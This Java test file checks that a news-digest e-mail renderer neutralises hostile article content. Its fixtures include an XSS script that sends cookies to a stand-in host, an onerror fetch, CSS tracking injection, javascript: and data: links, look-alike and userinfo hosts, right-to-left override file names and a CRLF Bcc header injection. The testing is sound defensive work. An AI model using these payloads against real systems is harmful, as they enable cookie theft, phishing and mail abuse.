package io.newsdigest.render;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.newsdigest.article.Rejection;
import io.newsdigest.digest.ArticleRef;
import io.newsdigest.digest.Digest;
import io.newsdigest.digest.Disagreement;
import io.newsdigest.digest.Evidence;
import io.newsdigest.digest.SharedFact;
import io.newsdigest.digest.Side;
import io.newsdigest.digest.Story;
import io.newsdigest.digest.UniqueClaim;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Article content written to attack the reader of the e-mail, through every field that reaches it: markup and
 * scripts, event handlers, CSS, dangerous links, look-alike hosts, bidirectional overrides, header injection.
 * The HTML is read back with a parser, as a mail client would, not searched as a string.
 */
class HostileContentTest {

    private static final String RLO = "\u202E";
    private static final String SCRIPT = "<script>document.location='https://steal.example/?c='+document.cookie</script>";
    private static final String IMG = "<img src=x onerror=\"fetch('https://steal.example')\">";
    private static final String CSS = "</style><style>body{background:url(https://track.example/p.gif)}</style>"
            + "<div style=\"position:fixed;top:0\">";
    private static final String HEADER = "Ferry news\r\nBcc: everyone@victim.example\r\nSubject: you won";

    /** Each hostile link and the host the reader must be shown, or null when no link may be made of it. */
    private static final Map<String, String> LINKS = Map.ofEntries(
            Map.entry("javascript:alert(document.domain)", "-"),
            Map.entry("JaVaScRiPt:alert(1)", "-"),
            Map.entry("java\tscript:alert(1)", "-"),
            Map.entry("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "-"),
            Map.entry("vbscript:msgbox(1)", "-"),
            Map.entry("//steal.example/path", "-"),
            Map.entry("https://bank.example@steal.example/login", "steal.example"),
            Map.entry("https://\u0440\u0430\u0443\u0440\u0430l.example/", "xn--l-7sba6dbr.example"),
            Map.entry("https://news.example/a\"onmouseover=\"alert(1)", "-"),
            Map.entry("https://news.example/ferry", "news.example"));

    private static RenderedDigest rendered;
    private static Document html;

    @BeforeAll
    static void render() {
        List<ArticleRef> refs = new ArrayList<>();
        List<String> links = new ArrayList<>(LINKS.keySet());
        links.sort(null);
        for (int i = 0; i < links.size(); i++) {
            refs.add(new ArticleRef("inbox/a" + i + RLO + "lmth.exe", "Title " + i + " " + SCRIPT + IMG,
                    "Outlet " + i + CSS, "2024-06-20", links.get(i)));
        }
        String key = refs.get(0).key();
        Story story = new Story("s1", HEADER + " " + SCRIPT + " " + RLO + "DESOLC",
                refs,
                List.of(new SharedFact("The ferry stops " + IMG + " on Friday " + RLO + "gnineve" + "\u202C.",
                        List.of(key, refs.get(1).key()), List.of(new Evidence(key, "x")))),
                List.of(new Disagreement("cost " + CSS, "number", List.of(
                        new Side("It cost " + SCRIPT + " 5 million.", List.of(key), List.of()),
                        new Side("It cost 6 million " + "\u2066" + "isolated" + "\u2069" + ".", List.of(refs.get(1).key()),
                                List.of())))),
                List.of(new UniqueClaim("Only one says " + IMG + "\u200B\u200D.", key)));
        Digest digest = new Digest("2024-06-20", refs.size(), List.of(new Rejection("inbox/" + SCRIPT + RLO + "fdp.exe",
                "binary content " + IMG)), List.of(story));
        rendered = new DigestRenderer().render(digest);
        html = Jsoup.parse(rendered.html());
    }

    @Test
    void no_script_runs_and_no_element_carries_an_event_handler() {
        assertTrue(html.select("script, iframe, object, embed, img, form, input, svg, math").isEmpty(),
                html.select("script, iframe, object, embed, img, form, input, svg, math").outerHtml());
        for (Element e : html.getAllElements()) {
            for (Attribute a : e.attributes()) {
                assertFalse(a.getKey().toLowerCase().startsWith("on"), "event handler on " + e.tagName());
            }
        }
        assertTrue(html.text().contains("<script>document.location="), "the text is shown, as text");
        assertTrue(html.text().contains("onerror=\"fetch("), "the text is shown, as text");
    }

    @Test
    void article_text_adds_no_style_of_its_own() {
        assertEquals(1, html.select("style").size(), "only the template's own style element");
        for (Element e : html.select("[style]")) {
            String style = e.attr("style");
            assertFalse(style.contains("position:fixed") || style.contains("track.example"), style);
        }
        assertFalse(html.select("style").html().contains("track.example"));
    }

    @Test
    void links_lead_only_to_http_or_https_and_each_shows_the_host_it_really_leads_to() {
        for (Element inMessage : html.select("a[href^=#]")) {
            assertTrue(inMessage.attr("href").matches("#story-\\d+"), "in the message only to a story");
            assertTrue(html.getElementById(inMessage.attr("href").substring(1)) != null, inMessage.attr("href"));
        }
        List<Element> anchors = html.select("a[href]:not([href^=#])");
        assertEquals(LINKS.values().stream().filter(h -> !h.equals("-")).count(), anchors.size(), anchors.toString());
        for (Element a : anchors) {
            String href = a.attr("href");
            assertTrue(href.startsWith("http://") || href.startsWith("https://"), href);
            String shown = a.nextElementSibling().text().replaceAll("[()]", "");
            String host = java.net.URI.create(href).getHost();
            assertEquals(host, shown, "the host shown beside " + href);
            assertTrue(shown.chars().allMatch(c -> c < 0x80), "look-alike letters are shown in ASCII: " + shown);
            assertTrue(LINKS.containsValue(shown), shown);
        }
        String text = html.text().toLowerCase();
        for (Element a : anchors) {
            assertFalse(a.attr("href").toLowerCase().contains("javascript"));
        }
        assertFalse(html.html().toLowerCase().contains("href=\"javascript"), "no script link");
        assertFalse(html.html().toLowerCase().contains("href=\"data:"), "no data link");
        assertTrue(text.contains("steal.example"), "the host a userinfo trick hides is what the reader sees");
    }

    @Test
    void bidirectional_overrides_and_isolates_are_shown_not_obeyed() {
        for (String part : List.of(rendered.html(), rendered.text())) {
            for (char c : new char[] {'\u202A', '\u202B', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069'}) {
                assertFalse(part.indexOf(c) >= 0, String.format("U+%04X reached the reader", (int) c));
            }
        }
        assertTrue(rendered.text().replaceAll("\\s+", " ").contains("[U+202E]fdp.exe: binary content"), rendered.text());
        assertTrue(html.text().contains("[U+202E]DESOLC"), html.text());
    }

    @Test
    void nothing_from_an_article_reaches_a_header_of_the_message() throws Exception {
        Mailing mailing = new Mailing("News digest <digest@news.example>", List.of("reader@example.org"));
        byte[] mime = DigestEmail.compose(mailing, rendered, Instant.parse("2024-06-21T07:00:00Z"));

        jakarta.mail.internet.MimeMessage message = new jakarta.mail.internet.MimeMessage(
                jakarta.mail.Session.getInstance(new java.util.Properties()), new ByteArrayInputStream(mime));
        assertEquals(null, message.getHeader("Bcc"));
        assertEquals("News digest, 20 June 2024: 1 story from 10 articles", message.getSubject());
        String raw = new String(mime, StandardCharsets.US_ASCII);
        String headers = raw.substring(0, raw.indexOf("\r\n\r\n"));
        assertFalse(headers.toLowerCase().contains("victim.example") || headers.contains("you won"), headers);
        assertEquals("<mailto:digest@news.example?subject=unsubscribe>", message.getHeader("List-Unsubscribe", null));
        assertFalse(headers.contains("steal.example") || headers.contains("script") || headers.contains("DESOLC"),
                "no article field in any header: " + headers);
        for (String line : raw.split("\r\n")) {
            assertTrue(line.length() <= 998, "a line longer than RFC 5322 allows: " + line.length());
        }
        assertFalse(Pattern.compile("(?<!\r)\n|\r(?!\n)").matcher(raw).find(), "bare CR or LF in the message");
    }
}
